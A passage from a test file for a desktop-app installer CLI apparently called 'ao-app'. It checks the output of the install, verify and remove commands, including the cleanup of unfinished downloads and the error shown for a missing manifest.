    expect(await runCli(['install', '--quiet', '--manifest', file, '--target', 'darwin-arm64', '--dir', root]).done).toBe(0);
    const verify = runCli(['verify', '--json', '--manifest', file, '--target', 'darwin-arm64', '--dir', root]);
    expect(await verify.done).toBe(0);
    expect(JSON.parse(verify.stdout).ok).toBe(true);
    const remove = runCli(['remove', '--dir', root]);
    expect(await remove.done).toBe(0);
    expect(remove.stdout).toBe(`removed the desktop app from ${root}\n`);
    expect(await appPath(root)).toBeUndefined();
    // Nothing left to remove: said so, where it had said "removed the desktop app" about an app that was never there.
    const again = runCli(['remove', '--json', '--dir', root]);
    expect(await again.done).toBe(0);
    expect(JSON.parse(again.stdout)).toEqual({ removed: null, notInstalled: root });
    const text = runCli(['remove', '--dir', join(root, 'never')]);
    expect(await text.done).toBe(0);
    expect(text.stdout).toBe(`the desktop app is not installed in ${join(root, 'never')}: nothing to remove\n`);
    // Only an unfinished download there (an install that gave up): deleted, and said so, where it had said "nothing to remove".
    await mkdir(join(root, 'downloads'), { recursive: true });
    await writeFile(join(root, 'downloads', 'app.zip.partial'), 'some of the app');
    await writeFile(join(root, 'downloads', 'app.zip.partial.json'), '{}');
    const download = runCli(['remove', '--dir', root]);
    expect(await download.done).toBe(0);
    expect(download.stdout).toBe(`the desktop app is not installed in ${root}; deleted its unfinished download\n`);
    expect(existsSync(join(root, 'downloads'))).toBe(false);
    // The same under --json, as the README shows it.
    await mkdir(join(root, 'downloads'), { recursive: true });
    await writeFile(join(root, 'downloads', 'app.zip.partial'), 'some of the app');
    const downloadJson = runCli(['remove', '--json', '--dir', root]);
    expect(await downloadJson.done).toBe(0);
    expect(JSON.parse(downloadJson.stdout)).toEqual({ removed: null, notInstalled: root, deletedDownload: true });
    expect(existsSync(join(root, 'downloads'))).toBe(false);
    const bad = runCli(['install', '--manifest', join(dir, 'missing.json'), '--dir', root]);
    expect(await bad.done).toBe(1);
    expect(bad.stderr).toMatch(/ao-app: cannot read the app manifest[\s\S]*fix: /);
  });
});
